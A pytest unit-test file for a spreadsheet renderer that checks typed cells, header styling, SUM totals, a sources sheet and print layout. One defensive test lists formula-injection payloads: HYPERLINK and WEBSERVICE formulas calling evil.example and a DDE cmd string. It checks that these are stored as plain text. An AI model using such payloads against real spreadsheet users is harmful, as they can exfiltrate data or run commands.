"""canvas_core/render/xlsx.py: workbooks reopen in openpyxl with typed cells, a styled frozen header, sized
columns, SUM totals where columns add up, and a Sources sheet."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from canvas_core.render import RenderCheckError
from canvas_core.render.structure import Reference
from canvas_core.render.xlsx import DataSheet, WorkbookSpec, check_xlsx, render_workbook
from canvas_core.tables import Table

pytestmark = pytest.mark.unit

SALES = Table(
    ["Region", "Revenue", "Units", "Share", "Opened", "Year"],
    [
        ["North", "$1,200.50", "10", "40%", "2020-01-15", "2023"],
        ["South", "$800", "12", "60%", "2021-06-30", "2024"],
        ["East", "$950.25", "7", "35%", "2019-03-01", "2024"],
    ],
    caption="Sales by region",
)


def workbook(*tables: Table, references=()):
    data = render_workbook(WorkbookSpec("Sales", list(tables or [SALES]), list(references)))
    return data, load_workbook(io.BytesIO(data))


def test_cells_are_typed_numbers_amounts_percentages_and_dates():
    # When
    _, book = workbook()
    sheet = book["Sales by region"]
    # Then
    assert [c.value for c in sheet[2]] == ["North", 1200.5, 10, 0.4, dt.datetime(2020, 1, 15), 2023]
    assert [c.data_type for c in sheet[2]] == ["s", "n", "n", "n", "d", "n"]
    assert sheet["B2"].number_format == '"$"#,##0.00'
    assert sheet["C2"].number_format == "#,##0"
    assert sheet["D2"].number_format == "0.0%"
    assert sheet["E2"].is_date and sheet["E2"].number_format == "yyyy-mm-dd"


def test_the_header_is_styled_frozen_and_filtered_and_columns_are_sized():
    _, book = workbook()
    sheet = book["Sales by region"]
    header = sheet[1]
    assert [c.value for c in header] == SALES.headers
    assert all(c.font.bold and c.fill.fgColor.rgb == "001F4E79" for c in header)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F4"
    widths = {k: v.width for k, v in sheet.column_dimensions.items()}
    assert set("ABCDEF") <= set(widths)
    assert all(8 <= w <= 60 for w in widths.values())


def test_amount_columns_get_a_total_row_of_sum_formulas():
    _, book = workbook()
    sheet = book["Sales by region"]
    assert [c.value for c in sheet[5]] == ["Total", "=SUM(B2:B4)", "=SUM(C2:C4)", None, None, None]
    assert sheet["B5"].font.bold and sheet["B5"].number_format == '"$"#,##0.00'


def test_the_sources_sheet_lists_each_source_with_a_link():
    _, book = workbook(
        references=[Reference("Report", "https://example.org/r", "p. 2"), Reference("Bad", "javascript:x")]
    )
    sheet = book["Sources"]
    assert [c.value for c in sheet[1]] == ["#", "Source", "Detail", "Link"]
    assert [c.value for c in sheet[2]] == [1, "Report", "p. 2", "https://example.org/r"]
    assert sheet["D2"].hyperlink.target == "https://example.org/r"
    assert [c.value for c in sheet[3]][:2] == [2, "Bad"] and sheet["D3"].value is None


def test_a_workbook_without_sources_says_so_and_sheet_names_are_valid_and_unique():
    twin = Table(["a", "b"], [["x", "1"]], caption="Sales by region")
    odd = Table(["a", "b"], [["x", "1"]], caption="Q1/Q2: [draft]? " + "x" * 40)
    _, book = workbook(SALES, twin, odd)
    assert book.sheetnames == ["Sales by region", "Sales by region (2)", "Q1 Q2 draft " + "x" * 19, "Sources"]
    assert book["Sources"]["B2"].value == "No sources were used for this workbook."


def test_the_check_reads_a_large_workbook_in_streaming_mode():
    rows = [[f"Item {n}", str(n), f"2024-01-{n % 28 + 1:02d}"] for n in range(10_000)]
    data, _ = workbook(Table(["Item", "Count", "Day"], rows, caption="Items"))
    views = check_xlsx(data)
    assert [v.name for v in views] == ["Items", "Sources"]
    assert views[0].header == ["Item", "Count", "Day"]
    assert views[0].rows[0] == ["Item 0", 0, dt.datetime(2024, 1, 1)]


def test_a_file_that_is_not_a_workbook_fails_the_check():
    with pytest.raises(RenderCheckError, match="does not reopen as an Excel workbook"):
        check_xlsx(b"not a workbook")


def test_text_that_looks_like_a_formula_is_stored_as_text_and_only_the_totals_are_formulas():
    # Given cells from an upload, a page or a model that a spreadsheet would evaluate (OWASP CSV injection)
    hostile = [
        '=HYPERLINK("http://evil.example/x","c")',
        '=WEBSERVICE("http://evil.example/y")',
        "+1+2",
        "@SUM(A1:A2)",
        "-cmd|' /C calc'!A0",
        "\t=1+1",
    ]
    table = Table(["Name", "Note", "Amount"], [[f"Row {n}", cell, "10"] for n, cell in enumerate(hostile)], "Notes")
    references = [Reference('=HYPERLINK("http://evil.example","x")', "https://example.org")]
    # When
    data, book = workbook(table, references=references)
    # Then every such cell is a string, shown as written, with a quote prefix; the total stays a formula
    notes = [book["Notes"].cell(row=r, column=2) for r in range(2, 2 + len(hostile))]
    assert [c.value for c in notes] == [*hostile[:-1], "=1+1"]  # cells are trimmed; what is left stays text
    assert {c.data_type for c in notes} == {"s"} and all(c.quotePrefix for c in notes)
    assert book["Sources"]["B2"].data_type == "s" and book["Sources"]["B2"].value.startswith("=HYPERLINK")
    total = book["Notes"].cell(row=2 + len(hostile), column=3)
    assert total.value == f"=SUM(C2:C{1 + len(hostile)})" and total.data_type == "f"
    assert b"<f>HYPERLINK" not in data and b"<f>WEBSERVICE" not in data


def test_averages_rates_ids_and_years_are_not_totalled():
    # Given a tickets export: an id, a count, an average, a rate and a year
    table = Table(
        ["ticket_id", "category", "tickets", "avg_resolution_hours", "escalationRate", "Year", "#"],
        [["1001", "Billing", "12", "4.5", "0.2", "2023", "1"], ["1002", "Login", "30", "12", "0.1", "2024", "2"]],
        "Tickets",
    )
    # When
    _, book = workbook(table)
    # Then only the count is totalled
    assert [c.value for c in book["Tickets"][4]] == ["Total", None, "=SUM(C2:C3)", None, None, None, None]


def test_a_table_that_names_its_totals_gets_them_even_over_empty_cells():
    # Given a budget scaffold: categories with their amounts left to fill
    budget = Table(["Category", "Amount", "Notes"], [["Venue", "", ""], ["Catering", "", ""]], "Budget", [1])
    # When
    _, book = workbook(budget)
    # Then a live total adds up what the requester types in
    assert [c.value for c in book["Budget"][4]] == ["Total", "=SUM(B2:B3)", None]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (dt.date(2026, 1, 31), "2026-01-31"),
        (dt.datetime(2026, 1, 31, 12, 30), "2026-01-31 12:30:00"),
        (1234567.25, "1,234,567.25"),
        (42, "42"),
        ("Customer number 1234", "Customer number 1234"),
    ],
)
def test_a_data_sheets_column_is_as_wide_as_its_values_so_none_shows_or_prints_as_hashes(value, shown):
    # Given a data sheet whose short-named column holds dates, times, large figures or text
    spec = WorkbookSpec(
        title="Data",
        tables=[],
        data=[DataSheet(caption="Data", headers=["d"], rows=[[value], [value]], row_count=2)],
    )
    # When it is rendered and read back
    book = load_workbook(io.BytesIO(render_workbook(spec)))
    # Then the column is at least as wide as the value as shown (the date's and time's own formats at the least)
    sheet = book["Data"]
    assert sheet["A2"].value is not None
    assert sheet.column_dimensions["A"].width >= min(len(shown), 16), (sheet.column_dimensions["A"].width, shown)


@pytest.mark.parametrize("length", [40, 180, 600])
def test_a_long_summary_line_wraps_in_a_column_a_page_prints_at_a_readable_scale(length):
    # Given a summary with a line of `length` characters and a short one
    long = ("Revenue grew in the North by twelve percent. " * 20)[:length]
    spec = WorkbookSpec(title="Summary", tables=[], summary=[long, "Short."])
    # When it is rendered and read back
    sheet = load_workbook(io.BytesIO(render_workbook(spec)))["Summary"]
    # Then its column is no wider than about a hundred characters (a landscape page at about 75 %), a line longer
    # than the column wraps, and its row is tall enough for the lines it wraps to
    width = sheet.column_dimensions["A"].width
    assert width <= 102
    assert [sheet["A2"].value, sheet["A3"].value] == [long, "Short."]
    if length > width:
        assert sheet["A2"].alignment.wrap_text
        assert (sheet.row_dimensions[2].height or 15) >= 15 * -(-length // width)
    else:
        assert width >= length


def test_every_sheet_prints_as_wide_as_the_page():
    # Given a workbook of a wide table, a data sheet and the sources
    wide = Table(headers=[f"Column {n}" for n in range(14)], rows=[[str(n) for n in range(14)]], caption="Wide")
    spec = WorkbookSpec(
        title="Printed",
        tables=[wide],
        summary=["A finding."],
        data=[DataSheet(caption="Data", headers=["a", "b"], rows=[[1, 2]], row_count=1)],
    )
    # When it is rendered and read back
    book = load_workbook(io.BytesIO(render_workbook(spec)))
    # Then each sheet fits its columns to one page across, in landscape, its header row on every page
    for sheet in book.worksheets:
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0), sheet.title
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.print_title_rows == "$1:$1"
